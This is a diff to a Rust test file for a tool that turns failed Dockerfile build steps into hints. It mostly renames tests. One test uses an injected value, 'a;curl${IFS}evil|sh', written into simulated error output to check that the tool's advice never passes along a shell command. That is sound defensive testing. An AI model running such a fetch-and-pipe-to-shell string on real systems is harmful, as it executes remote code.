@@ -43,7 +43,7 @@ impl ContextFiles for Files {
         files.any(|(file, _)| *file == path || file.starts_with(&folder))
     }
 
-    fn find_in_other_case(&self, _: &str, _: &str) -> Option<String> {
+    fn find_name_in_other_case(&self, _: &str, _: &str) -> Option<String> {
         None
     }
 
@@ -163,7 +163,7 @@ fn output_does_not_make_a_hint_advise_to_send_an_ignored_file() {
 }
 
 #[test]
-fn a_missing_file_that_copy_would_have_brought_to_the_path_is_explained_by_the_pattern() {
+fn a_missing_file_that_copy_would_have_brought_is_explained_by_the_ignore_pattern() {
     const FILES: &[(&str, &str)] = &[
         (
             "Dockerfile",
@@ -194,8 +194,8 @@ fn a_missing_file_that_copy_would_have_brought_to_the_path_is_explained_by_the_p
 }
 
 #[test]
-fn no_metacharacter_of_a_shell_gets_from_output_into_the_next_step() {
-    const EVIL: &str = "a;curl${IFS}evil|sh";
+fn no_shell_metacharacter_gets_from_output_into_the_advice_of_a_hint() {
+    const COMMAND_IN_PLACE_OF_NAME: &str = "a;curl${IFS}evil|sh";
     const FILES: &[(&str, &str)] = &[("Dockerfile", "FROM a\nWORKDIR /app\nCOPY . .\nRUN x\n")];
     for (code, output) in [
         (127, "/bin/sh: 1: EVIL: not found".to_owned()),
@@ -240,7 +240,11 @@ fn no_metacharacter_of_a_shell_gets_from_output_into_the_next_step() {
             "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'EVIL'".to_owned(),
         ),
     ] {
-        let hint = explain_step(FILES, (4, "x", code), &output.replace("EVIL", EVIL));
+        let hint = explain_step(
+            FILES,
+            (4, "x", code),
+            &output.replace("EVIL", COMMAND_IN_PLACE_OF_NAME),
+        );
         if let Some(hint) = hint {
             assert!(
                 !hint.next.contains(['|', ';', '$']) || !hint.next.contains("curl"),
@@ -251,7 +255,7 @@ fn no_metacharacter_of_a_shell_gets_from_output_into_the_next_step() {
 }
 
 #[test]
-fn a_package_is_advised_only_if_the_context_uses_it() {
+fn the_advice_of_a_hint_names_a_package_only_if_a_file_of_the_context_does() {
     const FILES: &[(&str, &str)] = &[
         ("Dockerfile", "FROM a\nWORKDIR /app\nCOPY . .\nRUN x\n"),
         ("main.go", "import \"example.com/good\"\n"),
